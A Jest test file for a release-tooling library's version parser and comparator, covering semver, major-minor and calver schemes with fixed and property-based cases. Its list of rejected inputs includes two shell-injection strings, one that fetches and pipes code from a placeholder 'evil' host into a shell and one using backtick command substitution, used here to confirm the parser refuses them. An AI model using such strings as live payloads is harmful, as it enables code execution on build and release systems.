import { createRequire } from "node:module";
import { describe, expect, test } from "@jest/globals";
import { SCHEMES } from "@release-actions/core/versioning/scheme";
import { compareVersions, finalOf, isFinal, parseVersion } from "@release-actions/core/versioning/version";
import fc from "fast-check";
import { anyVersion, versionOf } from "./arbitrary-version.ts";

// The library that core depends on; the root has an older one, of the tools.
const fromCore = createRequire(new URL("../../../../packages/core/package.json", import.meta.url));
const compareSemVer: (a: string, b: string) => number = fromCore("semver/functions/compare.js");

describe("parseVersion", () => {
  test.each([
    ["semver", "1.3.2", [1, 3, 2], []],
    ["semver", "0.0.0", [0, 0, 0], []],
    ["semver", "1.4.0-rc.12", [1, 4, 0], ["rc", 12]],
    ["semver", "1.0.0-alpha.beta-x.0", [1, 0, 0], ["alpha", "beta-x", 0]],
    ["semver", "1.0.0-rc.1+build.007", [1, 0, 0], ["rc", 1]],
    ["semver", "9007199254740991.0.0", [9007199254740991, 0, 0], []],
    ["major-minor", "1.4", [1, 4, 0], []],
    ["major-minor", "1.5-rc.1", [1, 5, 0], ["rc", 1]],
    ["calver", "2025.10.001", [2025, 10, 1], []],
    ["calver", "2025.01.999", [2025, 1, 999], []],
    ["calver", "2025.12.1000", [2025, 12, 1000], []],
    ["calver", "2025.10.002-rc.1", [2025, 10, 2], ["rc", 1]],
  ] as const)("in %s reads %s", (scheme, text, core, prerelease) => {
    expect(parseVersion(scheme, text)).toEqual({ scheme, text, core, prerelease });
  });

  test.each([
    ["semver", "v1.0.0"],
    ["semver", "=1.0.0"],
    ["semver", " 1.0.0"],
    ["semver", "1.0.0\n"],
    ["semver", "1.0"],
    ["semver", "1.0.0.0"],
    ["semver", "01.0.0"],
    ["semver", "1.0.0-0123"],
    ["semver", "1.0.0-"],
    ["semver", "1.0.0-rc..1"],
    ["semver", "1.0.0+"],
    ["semver", "99999999999999999999.0.0"],
    ["semver", "1.0.0-rc.99999999999999999999"],
    ["semver", "1.0.0-ä"],
    ["semver", "١.٠.٠"],
    ["semver", "1.0.0-rc․1"],
    ["semver", '1.0.0";curl$\x7bIFS}evil|sh;"'],
    ["semver", "1.0.0`id`"],
    ["semver", "-1.0.0"],
    ["semver", "1e3.0.0"],
    ["semver", ""],
    ["semver", `1.0.0-${"a".repeat(260)}`],
    ["major-minor", "1"],
    ["major-minor", "1.4.0"],
    ["major-minor", "01.4"],
    ["major-minor", "1.4+build"],
    ["major-minor", "1.4-"],
    ["major-minor", "v1.4"],
    ["calver", "2025.1.001"],
    ["calver", "2025.13.001"],
    ["calver", "2025.00.001"],
    ["calver", "2025.10.01"],
    ["calver", "2025.10.0001"],
    ["calver", "0025.10.001"],
    ["calver", "25.10.001"],
    ["calver", "2025.10.001+x"],
    ["calver", "2025.10.1"],
  ] as const)("in %s takes no %j for a version", (scheme, text) => {
    expect(parseVersion(scheme, text)).toBeUndefined();
  });

  test.each(SCHEMES)("in %s reads back every version that it can write", (scheme) => {
    fc.assert(
      fc.property(anyVersion(scheme), (version) => expect(parseVersion(scheme, version.text)).toEqual(version)),
    );
  });

  test("gives a version or undefined, with its very text, whatever it is given", () => {
    const nearly = fc.stringMatching(/^[v=]?\d{1,4}\.\d{1,3}(\.\d{1,4})?([-+][a-z0-9.]{0,6})?\s?$/);
    fc.assert(
      fc.property(fc.oneof(fc.string(), nearly), fc.constantFrom(...SCHEMES), (text, scheme) =>
        expect(parseVersion(scheme, text)?.text ?? text).toBe(text),
      ),
    );
  });
});

describe("compareVersions", () => {
  test("follows the order of semver.org §11", () => {
    const ordered = [
      "1.0.0-alpha",
      "1.0.0-alpha.1",
      "1.0.0-alpha.beta",
      "1.0.0-beta",
      "1.0.0-beta.2",
      "1.0.0-beta.11",
      "1.0.0-rc.1",
      "1.0.0",
      "1.0.1",
      "1.10.0",
      "2.0.0",
    ].map((text) => versionOf("semver", text));
    expect(ordered.toReversed().sort(compareVersions)).toEqual(ordered);
  });

  test("agrees with the semver library on any two versions", () => {
    fc.assert(
      fc.property(anyVersion("semver"), anyVersion("semver"), (a, b) =>
        expect(Math.sign(compareVersions(a, b))).toBe(compareSemVer(a.text, b.text)),
      ),
    );
  });

  test("counts builds and months as numbers", () => {
    const ordered = ["2025.09.1000", "2025.10.001-rc.1", "2025.10.001", "2025.10.999", "2025.10.1000", "2026.01.001"];
    expect(
      ordered
        .toReversed()
        .map((text) => versionOf("calver", text))
        .sort(compareVersions)
        .map(({ text }) => text),
    ).toEqual(ordered);
  });

  test("gives build metadata no say", () => {
    expect(compareVersions(versionOf("semver", "1.0.0+b"), versionOf("semver", "1.0.0+a"))).toBe(0);
  });
});

test("a pre-release leads to the final version of its numbers", () => {
  const candidate = versionOf("calver", "2025.10.002-rc.3");
  expect(isFinal(candidate)).toBe(false);
  expect(finalOf(candidate)).toEqual(versionOf("calver", "2025.10.002"));
});
